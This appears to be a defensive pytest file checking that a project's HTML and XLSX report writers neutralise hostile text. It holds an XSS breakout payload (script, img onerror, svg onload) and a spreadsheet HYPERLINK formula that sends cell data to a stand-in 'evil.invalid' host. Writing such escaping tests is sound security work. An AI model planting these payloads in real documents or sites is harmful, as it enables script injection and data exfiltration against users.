"""Hostile text in *every* text field of the report model (as if each came from a source system):
the HTML shows it as text (no element, attribute or script is created) and the XLSX never holds a
formula. Literal fields (statuses, kinds) are overwritten too, since templates put some of them into
attributes such as ``class``."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
from pydantic import BaseModel

from pmsync.report.model import Report
from pmsync.report.writers.html import render_html
from pmsync.report.writers.xlsx import xlsx_bytes

from .htmlcheck import parse
from .sample import sample_report

BREAKOUT = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'


def hostile(value: Any, text: str) -> Any:
    """``value`` with every string inside it (model fields, list items) replaced by ``text``."""
    if isinstance(value, str):
        return text
    if isinstance(value, BaseModel):
        return value.model_copy(
            update={name: hostile(getattr(value, name), text) for name in type(value).model_fields}
        )
    if isinstance(value, list):
        return [hostile(item, text) for item in value]
    return value


def test_every_text_field_is_escaped_in_html() -> None:
    report: Report = hostile(sample_report(), BREAKOUT)
    page = parse(render_html(report))
    assert page.find("script") == [] and page.find("img") == []
    assert all(not name.startswith("on") for element in page.elements for name in element.attrs)
    assert [e for e in page.find("svg") if "onload" in e.attrs] == []
    assert page.text.count(BREAKOUT) > 50  # the text is still there, for a reader to see


def test_every_text_field_is_inert_in_xlsx() -> None:
    report: Report = hostile(sample_report(), FORMULA)
    data = xlsx_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert len(cells) > 50 and all(c.data_type == "s" and c.quotePrefix for c in cells)
